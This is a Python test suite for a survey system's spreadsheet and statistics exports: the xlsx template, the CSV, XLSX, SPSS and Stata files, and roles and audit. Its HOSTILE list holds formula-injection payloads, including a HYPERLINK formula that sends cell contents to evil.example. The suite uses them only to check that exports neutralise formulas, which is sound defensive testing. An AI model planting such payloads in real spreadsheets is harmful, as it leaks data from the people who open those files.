#!/usr/bin/env python3
"""Spreadsheets and statistics files (issue 12, part 2; contract §7): template.xlsx read back by
openpyxl (frozen header, drop-down lists equal to the codes, labels in the input messages, the
codebook sheet), filled in and uploaded (as CSV with the same values, and as the .xlsx itself
with its other sheets, lists and frozen header: the rows stored, or every error by sheet row);
responses.xlsx equal cell by cell to responses.csv; responses.sav and .dta read back by
ReadStat's own command and by R haven (each skipped cleanly when absent) with the codebook's
labels; estimates.xlsx equal to estimates?format=csv; no formula in any export; roles; audit."""
import csv
import datetime
import io
import json
import math
import os
import re
import shutil
import socket
import struct
import subprocess
import sys
import tempfile
import unittest
import urllib.parse

import harness as h

h.require_db()
try:
    import openpyxl
    from openpyxl.utils import column_index_from_string, range_boundaries
except ImportError:
    print("skipped: python3-openpyxl is not installed")
    sys.exit(77)

FORM = {
    "id": "xl-test", "version": 1, "title": "Phiếu thử bảng tính", "respondent": "individual",
    "scales": {"likert5": {"codes": [1, 2, 3, 4, 5],
                           "labels": ["Rất không hài lòng", "Không hài lòng", "Bình thường", "Hài lòng",
                                      "Rất hài lòng"],
                           "positive": [4, 5]}},
    "sections": [
        {"id": "A", "title": "Thông tin", "questions": [
            {"id": "gender", "type": "single", "text": "Giới tính của ông/bà",
             "options": [{"code": 1, "label": "Nam"}, {"code": 2, "label": "Nữ"}]},
            {"id": "age", "type": "number", "text": "- Tuổi (năm)", "min": 15, "max": 100},
            {"id": "online", "type": "multi", "text": "Kênh đã dùng",
             "options": [{"code": 1, "label": "Trực tiếp"}, {"code": 2, "label": "Trực tuyến"}]},
            {"id": "note", "type": "text", "text": "Góp ý khác"}]},
        {"id": "B", "title": "Đánh giá", "questions": [
            {"id": "S1.1", "type": "scale", "scale": "likert5", "text": "Nơi đón tiếp có đủ chỗ ngồi"},
            {"id": "S1.2", "type": "scale", "scale": "likert5", "text": "Công chức có thái độ lịch sự"}]}],
    "indices": [{"id": "sipas", "label": "Chỉ số hài lòng", "of": ["S1.1", "S1.2"]}],
}
ROUND_AGENCIES = ["SNV", "STC", "STP"]
HEADER = ["serial", "agency", "channel", "stratum", "psu", "weight", "submitted_at",
          "gender", "age", "online", "note", "S1.1", "S1.2"]
EXPORT_HEADER = ["serial", "agency", "channel", "stratum", "psu", "weight", "fpc", "submitted_at",
                 "gender", "age", "online", "note", "S1.1", "S1.2"]
NUMERIC = {"weight", "fpc", "gender", "age", "S1.1", "S1.2"}
HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")', "+1+2", "-3 là điểm", "@SUM(A1:A9)",
           "\tTab đầu", "bình thường, \"có ngoặc\""]
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def to_csv(header, rows):
    """CSV with every non-empty cell quoted (the reader trims spaces and tabs around unquoted cells)."""
    def cell(v):
        return "" if v is None or v == "" else '"' + str(v).replace('"', '""') + '"'
    lines = [",".join(header)] + [",".join(cell(r.get(c)) for c in header) for r in rows]
    return ("\r\n".join(lines) + "\r\n").encode()


def unescape(cell):
    """The text a CSV cell stands for under docs/formats.md's rule (one apostrophe before a
    formula's first character)."""
    if len(cell) >= 2 and cell[0] == "'" and cell[1] in FORMULA_START:
        return cell[1:]
    return cell


class Spreadsheets(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.tmp = tempfile.mkdtemp(prefix="sipas-xl-")
        cls.form_path = os.path.join(cls.tmp, "xl-test.json")
        with open(cls.form_path, "w", encoding="utf-8") as f:
            json.dump(FORM, f, ensure_ascii=False)
        cls.db = h.Database()
        url = cls.db.url
        h.run_sipas(["agencies", "import", os.path.join(h.ROOT, "sql/demo/agencies-lang-son.csv")], url, check=True)
        h.run_sipas(["forms", "load", cls.form_path], url, check=True)
        args = ["survey", "create", "--id", "xl1", "--form", "xl-test", "--title", "Đợt thử bảng tính"]
        for a in ROUND_AGENCIES:
            args += ["--agency", a]
        h.run_sipas(args, url, check=True)
        cls.admin = cls.token("--role", "admin", "--name", "Quản trị")
        cls.analyst = cls.token("--role", "analyst", "--name", "Phân tích")
        cls.team = cls.token("--role", "team", "--agency", "SNV", "--agency", "STC", "--agency", "STP",
                             "--name", "Tổ nhập liệu")
        cls.team_snv = cls.token("--role", "team", "--agency", "SNV", "--name", "Tổ SNV")
        cls.server = h.Server(url)
        rows = []
        for i in range(30):
            rows.append({"serial": f"P-{i:03d}", "agency": ROUND_AGENCIES[i % 3],
                         "channel": ["paper", "phone", ""][i % 3], "stratum": "", "psu": f"C{i % 4}",
                         "weight": ["1.5", "2", "0.75"][i % 3], "submitted_at": f"2026-04-{1 + i % 28:02d}",
                         "gender": ["1", "2", ""][i % 3], "age": "" if i % 7 == 0 else str(18 + i),
                         "online": ["1", "1;2", ""][i % 3], "note": HOSTILE[(i // 2) % len(HOSTILE)] if i % 2 else "",
                         "S1.1": str(1 + i % 5), "S1.2": "" if i % 6 == 0 else str(1 + (i * 3) % 5)})
        rows[4]["serial"] = "=1+1"          # a hostile serial is text too
        rows[8]["psu"] = "-C2"
        r = cls.server.post("/api/v1/surveys/xl1/uploads", body=to_csv(HEADER, rows),
                            headers={"Content-Type": "text/csv"}, token=cls.admin)
        assert r.status == 201, r.body
        cls.rows = rows

    @classmethod
    def tearDownClass(cls):
        status = cls.server.stop()
        log = cls.server.read_log()
        cls.db.close()
        shutil.rmtree(cls.tmp, ignore_errors=True)
        assert status == 0, f"sipas serve exited {status}\n{log}"

    @classmethod
    def token(cls, *args):
        return h.run_sipas(["token", "create", *args], cls.db.url, check=True).stdout.strip()

    def get(self, path, token=None, status=200):
        r = self.server.get(path, token=token or self.analyst)
        self.assertEqual(r.status, status, f"{path}: {r.body[:300]!r}")
        return r

    def save(self, name, body):
        path = os.path.join(self.tmp, name)
        with open(path, "wb") as f:
            f.write(body)
        return path

    def export_csv(self):
        r = self.get("/api/v1/surveys/xl1/responses.csv")
        return list(csv.reader(io.StringIO(r.text)))

    def codebook(self):
        """Per question of the form: its codes and labels, from the definition itself."""
        scales = FORM["scales"]
        out = {}
        for s in FORM["sections"]:
            for q in s["questions"]:
                if q["type"] == "scale":
                    sc = scales[q["scale"]]
                    out[q["id"]] = dict(zip(sc["codes"], sc["labels"]))
                elif q["type"] == "single":
                    out[q["id"]] = {o["code"]: o["label"] for o in q["options"]}
        return out

    def questions(self):
        return {q["id"]: q for s in FORM["sections"] for q in s["questions"]}

    # ---- template.xlsx ----

    def template(self, token=None):
        r = self.get("/api/v1/surveys/xl1/template.xlsx", token=token or self.team)
        self.assertTrue(r.headers["Content-Type"].startswith(
            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"), r.headers["Content-Type"])
        self.assertIn("xl1-template.xlsx", r.headers["Content-Disposition"])
        return openpyxl.load_workbook(self.save("template.xlsx", r.body))

    def list_values(self, wb, dv):
        """The values a list validation offers: its formula's range on another sheet, read back."""
        m = re.fullmatch(r"'?(.+?)'?!(\$?[A-Z]+\$?\d+:\$?[A-Z]+\$?\d+)", dv.formula1.lstrip("="))
        self.assertIsNotNone(m, dv.formula1)
        ws = wb[m.group(1)]
        c0, r0, c1, r1 = range_boundaries(m.group(2).replace("$", ""))
        self.assertEqual(c0, c1)
        return [ws.cell(row=i, column=c0).value for i in range(r0, r1 + 1)]

    def test_template_lists_codes_and_labels(self):
        wb = self.template()
        self.assertEqual(wb.sheetnames, ["Phiếu", "Bảng mã"])
        ws = wb["Phiếu"]
        header = [c.value for c in ws[1]]
        tcsv = self.get("/api/v1/surveys/xl1/template.csv", token=self.team).text
        self.assertEqual(header, tcsv.strip().split(","))
        self.assertEqual(header, HEADER)
        self.assertEqual(ws.freeze_panes, "A2")
        self.assertTrue(all(c.font.b for c in ws[1]))
        col_of = {name: i + 1 for i, name in enumerate(header)}
        lists = {}
        for dv in ws.data_validations.dataValidation:
            self.assertEqual(dv.type, "list")
            self.assertTrue(dv.showInputMessage and dv.showErrorMessage)
            cols = {column_index_from_string(re.match(r"[A-Z]+", str(r)).group(0)) for r in dv.sqref.ranges}
            for c in cols:
                lists[header[c - 1]] = (self.list_values(wb, dv), dv)
        names = {a["code"]: a["name"] for a in self.get("/api/v1/agencies").json()["agencies"]}
        want = {"agency": (ROUND_AGENCIES, [names[a] for a in ROUND_AGENCIES]),
                "channel": (["web", "paper", "phone", "api", "interview"], None)}
        for qid, codes in self.codebook().items():
            want[qid] = (list(codes.keys()), list(codes.values()))
        self.assertEqual(sorted(lists), sorted(want), "the coded columns with a drop-down")
        for col, (codes, labels) in want.items():
            got, dv = lists[col]
            self.assertEqual(got, codes, col)
            # the range covers every data row of the column, not the header
            for rng in dv.sqref.ranges:
                self.assertEqual((rng.min_row, rng.max_row), (2, 1048576), col)
            for code, label in zip(codes, labels or []):
                self.assertIn(f"{code} = {label}", dv.prompt, col)
        # widths that fit: each column at least as wide as its header and its longest code
        for name, i in col_of.items():
            letter = openpyxl.utils.get_column_letter(i)
            width = ws.column_dimensions[letter].width
            longest = max([len(name)] + [len(str(c)) for c in want.get(name, ([], None))[0]])
            self.assertGreaterEqual(width, longest, name)
        # the codebook sheet: every question's text, every code's label
        book = wb["Bảng mã"]
        self.assertEqual(book.freeze_panes, "A2")
        cells = [[c.value for c in row] for row in book.iter_rows(min_row=2)]
        texts = {r[0]: r[3] for r in cells if r[3]}
        for qid, q in self.questions().items():
            self.assertEqual(texts.get(qid), q["text"], qid)
        for qid, codes in self.codebook().items():
            got = {r[1]: r[2] for r in cells if r[0] == qid and r[1] is not None}
            self.assertEqual(got, codes, qid)
        # no formula anywhere
        for sheet in wb.worksheets:
            for row in sheet.iter_rows():
                for c in row:
                    self.assertNotEqual(c.data_type, "f", (sheet.title, c.coordinate))

    def test_template_lists_a_teams_own_agencies(self):
        wb = self.template(self.team_snv)
        ws = wb["Phiếu"]
        for dv in ws.data_validations.dataValidation:
            if any(rng.min_col == 2 for rng in dv.sqref.ranges):
                self.assertEqual(self.list_values(wb, dv), ["SNV"])
                break
        else:
            self.fail("no drop-down on agency")
        self.template(self.admin)       # an admin's lists every agency of the round (test above)

    def test_template_filled_uploads_without_error(self):
        wb = self.template()
        ws = wb["Phiếu"]
        lists = {}
        header = [c.value for c in ws[1]]
        for dv in ws.data_validations.dataValidation:
            for rng in dv.sqref.ranges:
                lists[header[rng.min_col - 1]] = self.list_values(wb, dv)
        filled = []
        for i in range(12):
            v = {"serial": f"T-{i}", "agency": lists["agency"][i % 3], "channel": lists["channel"][1 + i % 2],
                 "stratum": None, "psu": None, "weight": None, "submitted_at": f"2026-05-{1 + i:02d}",
                 "gender": lists["gender"][i % 2], "age": 20 + i, "online": "1;2" if i % 2 else None,
                 "note": "Rất tốt" if i % 3 else None,
                 "S1.1": lists["S1.1"][i % 5], "S1.2": lists["S1.2"][(i + 2) % 5]}
            ws.append([v[c] for c in header])
            filled.append(v)
        # what the workbook now holds, read back, is what a team would upload
        path = os.path.join(self.tmp, "filled.xlsx")
        wb.save(path)
        back = openpyxl.load_workbook(path)["Phiếu"]
        values = [[c.value for c in row] for row in back.iter_rows(min_row=2)]
        self.assertEqual(len(values), 12)
        body = to_csv(header, [dict(zip(header, row)) for row in values])
        dry = self.server.post("/api/v1/surveys/xl1/uploads?dry_run=1", body=body,
                               headers={"Content-Type": "text/csv"}, token=self.team)
        self.assertEqual(dry.status, 200, dry.body)
        self.assertEqual(dry.json(), {"rows": 12, "errors": []})
        # the upload of the same rows, stored in a round of its own so other tests keep their rows
        h.run_sipas(["survey", "create", "--id", "xl2", "--form", "xl-test", "--title", "Đợt nhập thử",
                     *sum((["--agency", a] for a in ROUND_AGENCIES), [])], self.db.url, check=True)
        r = self.server.post("/api/v1/surveys/xl2/uploads", body=body, headers={"Content-Type": "text/csv"},
                             token=self.team)
        self.assertEqual(r.status, 201, r.body)
        self.assertEqual(int(self.db.sql("SELECT count(*) FROM responses r JOIN surveys s ON s.id = r.survey_id"
                                         " WHERE s.code = 'xl2'")), 12)

    def filled_template(self, rows):
        """template.xlsx as a team fills it in: openpyxl opens the download, appends rows to the
        first sheet and saves it, keeping the other sheets, the drop-down lists and the frozen
        header; returns the workbook's bytes and the header."""
        wb = self.template()
        self.assertEqual(wb.worksheets[0].title, "Phiếu")
        ws = wb["Phiếu"]
        header = [c.value for c in ws[1]]
        for r in rows:
            ws.append([r.get(c) for c in header])
        path = os.path.join(self.tmp, "filled-as-is.xlsx")
        wb.save(path)
        back = openpyxl.load_workbook(path)
        self.assertEqual(back.sheetnames, wb.sheetnames)
        self.assertGreater(len(back.sheetnames), 1)                     # the lists / codebook sheets kept
        self.assertEqual(back["Phiếu"].freeze_panes, "A2")
        self.assertTrue(back["Phiếu"].data_validations.dataValidation)
        with open(path, "rb") as f:
            return f.read(), header

    def test_template_xlsx_uploaded_as_it_is(self):
        """Issue 12's "done when": the downloaded template, filled in, uploaded as the .xlsx itself."""
        filled = []
        for i in range(9):
            filled.append({"serial": f"W-{i}", "agency": ROUND_AGENCIES[i % 3], "channel": ["paper", "phone"][i % 2],
                           "submitted_at": f"2026-06-{1 + i:02d}", "gender": 1 + i % 2, "age": 30 + i,
                           "online": "1;2" if i % 2 else None, "note": "Cán bộ tận tình" if i % 3 else None,
                           "S1.1": 1 + i % 5, "S1.2": 1 + (i + 2) % 5})
        body, _ = self.filled_template(filled)
        h.run_sipas(["survey", "create", "--id", "xl3", "--form", "xl-test", "--title", "Đợt nhập bảng tính",
                     *sum((["--agency", a] for a in ROUND_AGENCIES), [])], self.db.url, check=True)
        r = self.server.post("/api/v1/surveys/xl3/uploads", body=body, headers={"Content-Type": XLSX},
                             token=self.team)
        self.assertEqual(r.status, 201, r.body)
        self.assertEqual(r.json()["rows"], 9)
        got = list(csv.reader(io.StringIO(self.get("/api/v1/surveys/xl3/responses.csv").text)))
        self.assertEqual(got[0], EXPORT_HEADER)
        by_serial = {d["serial"]: d for d in (dict(zip(got[0], row)) for row in got[1:])}
        self.assertEqual(sorted(by_serial), sorted(v["serial"] for v in filled))
        for v in filled:
            d = by_serial[v["serial"]]
            for c in ("agency", "channel", "gender", "age", "S1.1", "S1.2"):
                self.assertEqual(d[c], str(v[c]), (v["serial"], c))
            self.assertEqual(d["online"], v["online"] or "")
            self.assertEqual(d["note"], v["note"] or "")
            day = datetime.datetime.fromisoformat(v["submitted_at"] + "T00:00:00+07:00")   # the province's day
            self.assertEqual(d["submitted_at"], day.astimezone(datetime.timezone.utc).strftime("%Y-%m-%dT%H:%M:%SZ"))

    def test_template_xlsx_with_bad_rows_names_sheet_rows(self):
        good = {"serial": "E-0", "agency": "SNV", "channel": "paper", "submitted_at": "2026-06-01", "gender": 1,
                "age": 40, "S1.1": 4, "S1.2": 5}
        rows = [good, dict(good, serial="E-1", gender=7, **{"S1.1": 9}), dict(good, serial="E-2"),
                dict(good, serial="E-3", agency="XYZ", age=7)]
        body, header = self.filled_template(rows)
        before = self.db.sql("SELECT count(*) FROM responses")
        r = self.server.post("/api/v1/surveys/xl1/uploads", body=body, headers={"Content-Type": XLSX},
                             token=self.team)
        self.assertEqual(r.status, 422, r.body)
        errs = r.json()["errors"]
        self.assertEqual(sorted((e["row"], e["column"]) for e in errs),
                         [(3, "S1.1"), (3, "gender"), (5, "age"), (5, "agency")], errs)
        for e in errs:
            self.assertIn(e["column"], header)
            self.assertTrue(e["message"] and e["message_vi"], e)
        self.assertEqual(self.db.sql("SELECT count(*) FROM responses"), before)

    # ---- no formula in CSV ----

    def test_csv_cells_are_never_formulas(self):
        rows = self.export_csv()
        self.assertEqual(rows[0], EXPORT_HEADER)
        by_serial = {}
        for r in rows[1:]:
            d = dict(zip(rows[0], r))
            by_serial[unescape(d["serial"])] = d
            for col, cell in d.items():
                if col in NUMERIC:
                    continue
                self.assertFalse(cell.startswith(FORMULA_START), (col, cell))
        self.assertEqual(by_serial["=1+1"]["serial"], "'=1+1")
        self.assertEqual(by_serial["P-008"]["psu"], "'-C2")
        for src in self.rows:
            got = by_serial[src["serial"]]
            stored = src["note"].strip(" \t")       # text answers are stored trimmed
            self.assertEqual(unescape(got["note"]), stored)
            self.assertEqual(got["note"], "'" + stored if stored.startswith(FORMULA_START) else stored)
        self.assertIn("'=HYPERLINK(", self.get("/api/v1/surveys/xl1/responses.csv").text)
        # a question text is a text cell of codebook.csv
        book = list(csv.reader(io.StringIO(self.get("/api/v1/surveys/xl1/codebook.csv").text.lstrip("\ufeff"))))
        self.assertEqual([r[1] for r in book if r[0] == "age"], ["'- Tuổi (năm)"])

    # ---- responses.xlsx ----

    def test_responses_xlsx_equals_csv(self):
        want = self.export_csv()
        r = self.get("/api/v1/surveys/xl1/responses.xlsx")
        self.assertIn("xl1-responses.xlsx", r.headers["Content-Disposition"])
        wb = openpyxl.load_workbook(self.save("responses.xlsx", r.body))
        ws = wb.worksheets[0]
        self.assertEqual(ws.freeze_panes, "A2")
        got = [[c for c in row] for row in ws.iter_rows()]
        self.assertEqual(len(got), len(want))
        self.assertEqual([c.value for c in got[0]], want[0])
        cells = 0
        for i, (grow, wrow) in enumerate(zip(got[1:], want[1:]), start=2):
            grow = list(grow) + [None] * (len(wrow) - len(grow))
            for name, g, w in zip(want[0], grow, wrow):
                where = f"row {i} {name}"
                self.assertNotEqual(g.data_type, "f", where)
                if w == "":
                    self.assertIsNone(g.value, where)
                elif name in NUMERIC:
                    self.assertIsInstance(g.value, (int, float), where)
                    self.assertTrue(math.isclose(g.value, float(w), rel_tol=1e-15), where)
                else:
                    self.assertEqual(g.data_type, "s", where)
                    self.assertEqual(g.value, unescape(w), where)
                cells += 1
        self.assertEqual(cells, (len(want) - 1) * len(want[0]))
        notes = [row[want[0].index("note")].value for row in got[1:]]
        self.assertIn(HOSTILE[0], notes)       # the formula's text, as a string cell

    # ---- estimates.xlsx ----

    def test_estimates_xlsx_equals_csv(self):
        for query in ("by=agency", "by=agency&by=gender&ci=wald&confidence=0.9", ""):
            want = list(csv.reader(io.StringIO(self.get(f"/api/v1/surveys/xl1/estimates?{query}&format=csv").text)))
            r = self.get(f"/api/v1/surveys/xl1/estimates.xlsx?{query}")
            ws = openpyxl.load_workbook(self.save("estimates.xlsx", r.body)).worksheets[0]
            got = [[c.value for c in row] for row in ws.iter_rows()]
            self.assertEqual(len(got), len(want), query)
            self.assertEqual(got[0], want[0], query)
            for grow, wrow in zip(got[1:], want[1:]):
                grow = list(grow) + [None] * (len(wrow) - len(grow))
                for name, g, w in zip(want[0], grow, wrow):
                    if w == "":
                        self.assertIsNone(g, (query, name))
                    elif isinstance(g, (int, float)):
                        self.assertTrue(math.isclose(g, float(w), rel_tol=1e-15), (query, name, g, w))
                    else:
                        self.assertEqual(g, unescape(w), (query, name))
        self.assertEqual(self.get("/api/v1/surveys/xl1/estimates.xlsx?by=nope", status=400).json()["error"]["code"],
                         "bad_request")

    # ---- responses.sav and responses.dta ----

    def stat_files(self):
        out = {}
        for ext in ("sav", "dta"):
            r = self.get(f"/api/v1/surveys/xl1/responses.{ext}")
            self.assertIn(f"xl1-responses.{ext}", r.headers["Content-Disposition"])
            self.assertEqual(r.headers.get("Transfer-Encoding"), "chunked")
            out[ext] = self.save(f"responses.{ext}", r.body)
        return out

    def expect_rows(self):
        """responses.csv as the statistics files must hold it: numbers in numeric columns, text
        as stored, no answer as missing (None)."""
        want = self.export_csv()
        rows = []
        for r in want[1:]:
            row = {}
            for name, cell in zip(want[0], r):
                if cell == "":
                    row[name] = None
                elif name in NUMERIC:
                    row[name] = float(cell)
                else:
                    row[name] = unescape(cell)
            rows.append(row)
        return want[0], rows

    def test_stat_files_by_readstat(self):
        if not shutil.which("readstat") or not shutil.which("extract_metadata"):
            self.skipTest("ReadStat's command-line tools are not installed")
        names, rows = self.expect_rows()
        for ext, path in self.stat_files().items():
            p = subprocess.run(["readstat", path, "-"], capture_output=True, check=True)
            got = list(csv.reader(io.StringIO(p.stdout.decode("utf-8"))))
            varnames = [n.replace(".", "_") if ext == "dta" else n for n in names]
            self.assertEqual(got[0], varnames, ext)
            self.assertEqual(len(got) - 1, len(rows), ext)
            for g, w in zip(got[1:], rows):
                for name, gv in zip(names, g):
                    wv = w[name]
                    if wv is None:
                        self.assertEqual(gv, "", (ext, name))
                    elif name in NUMERIC:
                        self.assertTrue(math.isclose(float(gv), wv, rel_tol=1e-15), (ext, name, gv, wv))
                    else:
                        self.assertEqual(gv, wv, (ext, name))
            mpath = path + ".json"
            subprocess.run(["extract_metadata", path, mpath], capture_output=True, check=True)
            with open(mpath, encoding="utf-8") as f:
                meta = json.load(f)
            variables = {v["name"]: v for v in meta["variables"]}
            for qid, q in self.questions().items():
                v = variables[qid.replace(".", "_") if ext == "dta" else qid]
                self.assertEqual(v["label"], q["text"], (ext, qid))
            for qid, codes in self.codebook().items():
                v = variables[qid.replace(".", "_") if ext == "dta" else qid]
                labels = {int(c["code"]): c["label"] for c in v["categories"]}
                self.assertEqual(labels, codes, (ext, qid))

    def test_stat_files_by_r_haven(self):
        if not shutil.which("Rscript"):
            self.skipTest("R is not installed")
        if subprocess.run(["Rscript", "-e", "library(haven)"], capture_output=True).returncode != 0:
            self.skipTest("R haven (r-cran-haven) is not installed")
        names, rows = self.expect_rows()
        # one fact a line, tab-separated: var NAME TYPE LABEL / lab NAME CODE LABEL / val NAME ROW VALUE
        script = r"""
args <- commandArgs(TRUE)
suppressMessages(library(haven))
d <- if (grepl("dta$", args[1])) read_dta(args[1]) else read_sav(args[1])
enc <- function(s) gsub("\n", "\\\\n", gsub("\t", "\\\\t", gsub("\\\\", "\\\\\\\\", s)))
for (v in names(d)) {
  x <- d[[v]]
  cat("var", v, if (is.numeric(x)) "numeric" else "string", enc(if (is.null(attr(x, "label"))) "" else attr(x, "label")), sep = "\t")
  cat("\n")
  labs <- attr(x, "labels")
  if (!is.null(labs)) for (i in seq_along(labs)) { cat("lab", v, format(unclass(labs[[i]]), digits = 17), enc(names(labs)[i]), sep = "\t"); cat("\n") }
  vals <- as.vector(unclass(x))
  for (i in seq_along(vals)) {
    e <- vals[i]
    if (is.na(e) || (is.character(e) && e == "")) next
    cat("val", v, i, if (is.numeric(e)) format(e, digits = 17) else enc(e), sep = "\t"); cat("\n")
  }
}
"""
        rpath = self.save("read.R", script.encode())
        dec = lambda s: s.replace("\\n", "\n").replace("\\t", "\t").replace("\\\\", "\\")  # noqa: E731
        for ext, path in self.stat_files().items():
            p = subprocess.run(["Rscript", rpath, path], capture_output=True, check=True)
            vars_, labs, vals = {}, {}, {}
            for line in p.stdout.decode("utf-8").splitlines():
                kind, rest = line.split("\t", 1)
                if kind == "var":
                    v, typ, label = rest.split("\t")
                    vars_[v] = (typ, dec(label))
                elif kind == "lab":
                    v, code, label = rest.split("\t")
                    labs.setdefault(v, {})[int(float(code))] = dec(label)
                else:
                    v, i, value = rest.split("\t")
                    vals[(v, int(i))] = dec(value)
            mapped = [n.replace(".", "_") if ext == "dta" else n for n in names]
            self.assertEqual(list(vars_), mapped, ext)
            for name, var in zip(names, mapped):
                self.assertEqual(vars_[var][0], "numeric" if name in NUMERIC else "string", (ext, name))
            for qid, q in self.questions().items():
                self.assertEqual(vars_[qid.replace(".", "_") if ext == "dta" else qid][1], q["text"], (ext, qid))
            for qid, codes in self.codebook().items():
                self.assertEqual(labs.get(qid.replace(".", "_") if ext == "dta" else qid), codes, (ext, qid))
            for i, row in enumerate(rows, start=1):
                for name, var in zip(names, mapped):
                    w, g = row[name], vals.get((var, i))
                    if w is None:
                        self.assertIsNone(g, (ext, name, i))      # no answer: system missing
                    elif name in NUMERIC:
                        self.assertTrue(math.isclose(float(g), w, rel_tol=1e-15), (ext, name, i, g, w))
                    else:
                        self.assertEqual(g, w, (ext, name, i))

    def test_sav_in_r_survey_equals_api(self):
        """R's survey package on the .sav alone (its weights, strata and PSUs) gives the API's
        headline estimate and standard error."""
        if not shutil.which("Rscript"):
            self.skipTest("R is not installed")
        if subprocess.run(["Rscript", "-e", "library(haven); library(survey)"], capture_output=True).returncode:
            self.skipTest("R haven or survey is not installed")
        script = r"""
args <- commandArgs(TRUE)
suppressMessages({library(haven); library(survey)})
d <- as.data.frame(zap_labels(read_sav(args[1])))
items <- c("S1.1", "S1.2")
for (k in items) {
  d[[paste0("y", k)]] <- as.numeric(!is.na(d[[k]]) & d[[k]] %in% c(4, 5))
  d[[paste0("v", k)]] <- as.numeric(!is.na(d[[k]]))
}
des <- svydesign(ids = ~psu, strata = ~stratum, weights = ~weight, nest = TRUE, data = d)
r <- svyratio(~yS1.1 + yS1.2, ~vS1.1 + vS1.2, des, covmat = TRUE)
cc <- setNames(rep(0, length(coef(r))), names(coef(r)))
cc[c("yS1.1/vS1.1", "yS1.2/vS1.2")] <- 0.5
h <- svycontrast(r, cc)
cat(sprintf("%.17g %.17g
", 100 * coef(h), 100 * SE(h)))
"""
        rpath = self.save("headline.R", script.encode())
        path = self.stat_files()["sav"]
        p = subprocess.run(["Rscript", rpath, path], capture_output=True, text=True)
        self.assertEqual(p.returncode, 0, p.stderr)
        est, se = map(float, p.stdout.split())
        api = self.get("/api/v1/surveys/xl1/estimates").json()["groups"][0]["estimates"][0]
        self.assertEqual(api["index"], "sipas")
        self.assertTrue(math.isclose(api["estimate"], est, rel_tol=1e-9), (api["estimate"], est))
        self.assertTrue(math.isclose(api["se"], se, rel_tol=1e-9), (api["se"], se))

    def test_abandoned_download_ends_its_snapshot(self):
        """A client that stops reading a .sav and resets the connection leaves no transaction
        behind: the stream's cursor and connection are given back however the reply ends."""
        h.run_sipas(["survey", "create", "--id", "xl4", "--form", "xl-test", "--title", "Đợt tải bỏ dở",
                     "--agency", "SNV"], self.db.url, check=True)
        rows = [{"serial": f"L-{i}", "agency": "SNV", "weight": "1", "S1.1": "3",
                 "note": "dài " * 450 if i == 0 else ""} for i in range(3000)]
        r = self.server.post("/api/v1/surveys/xl4/uploads", body=to_csv(HEADER, rows),
                             headers={"Content-Type": "text/csv"}, token=self.admin)
        self.assertEqual(r.status, 201, r.body)
        in_tx = ("SELECT pid FROM pg_stat_activity WHERE datname = current_database()"
                 " AND state LIKE 'idle in transaction%'")
        u = urllib.parse.urlsplit(self.server.url)
        c = socket.socket()
        c.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)   # every row is ~2 kB: the file is ~6 MB
        c.connect((u.hostname, u.port))
        c.sendall(f"GET /api/v1/surveys/xl4/responses.sav HTTP/1.1\r\nHost: x\r\n"
                  f"Authorization: Bearer {self.analyst}\r\n\r\n".encode())
        self.assertTrue(c.recv(1024).startswith(b"HTTP/1.1 200"))
        # the server waits on the client, its snapshot open
        h.wait_for(lambda: self.db.sql(in_tx).splitlines(), 30, "the export's transaction, open mid-stream",
                   ok=lambda pids: len(pids) == 1)
        c.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        c.close()                                                  # a reset, the file unread
        h.wait_for(lambda: self.db.sql(in_tx).splitlines(), 30, "no session left in a transaction",
                   ok=lambda pids: pids == [])
        # the server goes on; in the .dta the long answer is cut at Stata's 2,045 bytes
        path = self.save("xl4.dta", self.get("/api/v1/surveys/xl4/responses.dta").body)
        if shutil.which("readstat"):
            p = subprocess.run(["readstat", path, "-"], capture_output=True, check=True)
            got = list(csv.DictReader(io.StringIO(p.stdout.decode("utf-8"))))
            self.assertEqual(len(got), 3000)
            full = rows[0]["note"].strip()
            self.assertLessEqual(len(got[0]["note"].encode()), 2045)
            self.assertGreater(len(got[0]["note"].encode()), 2040)
            self.assertTrue(full.startswith(got[0]["note"]))

    # ---- roles and audit ----

    def test_roles_and_audit(self):
        paths = ["responses.xlsx", "responses.sav", "responses.dta", "estimates.xlsx?by=agency"]
        for p in paths:
            self.assertEqual(self.server.get(f"/api/v1/surveys/xl1/{p}", token=self.team).status, 403, p)
            self.assertEqual(self.server.get(f"/api/v1/surveys/xl1/{p}").status, 401, p)
            self.assertEqual(self.server.get(f"/api/v1/surveys/nope/{p}", token=self.analyst).status, 404, p)
        self.assertEqual(self.server.get("/api/v1/surveys/xl1/template.xlsx", token=self.analyst).status, 403)
        self.assertEqual(self.server.get("/api/v1/surveys/xl1/template.xlsx").status, 401)
        self.assertEqual(self.server.get("/api/v1/surveys/nope/template.xlsx", token=self.team).status, 404)
        for p, fmt in zip(paths, ("xlsx", "sav", "dta", "xlsx")):
            before = int(self.db.sql("SELECT count(*) FROM audit_log WHERE action = 'export'"))
            self.get(f"/api/v1/surveys/xl1/{p}", token=self.admin)
            last = self.db.sql("SELECT t.name, a.detail->>'export', a.detail->>'format', a.detail->>'survey'"
                               " FROM audit_log a JOIN tokens t ON t.id = a.token_id WHERE a.action = 'export'"
                               " ORDER BY a.id DESC LIMIT 1")
            self.assertEqual(last, f"Quản trị|{p.split('.')[0]}|{fmt}|xl1")
            self.assertEqual(int(self.db.sql("SELECT count(*) FROM audit_log WHERE action = 'export'")), before + 1)
        # the cursor's snapshot ends with the export: no session is left in a transaction (a
        # finished COPY of responses.csv leaves an idle session whose last query is the COPY)
        h.wait_for(lambda: self.db.sql("SELECT pid FROM pg_stat_activity WHERE datname = current_database()"
                                       " AND state LIKE 'idle in transaction%'").splitlines(), 30,
                   "no session left idle in a transaction", ok=lambda rows: rows == [])

    def test_dashboard_links(self):
        page = self.get("/dashboard/xl1").text
        for p in ("responses.xlsx", "responses.sav", "responses.dta", "estimates.xlsx?by=agency"):
            self.assertIn(f"/api/v1/surveys/xl1/{p}", page)


if __name__ == "__main__":
    unittest.main(verbosity=2)
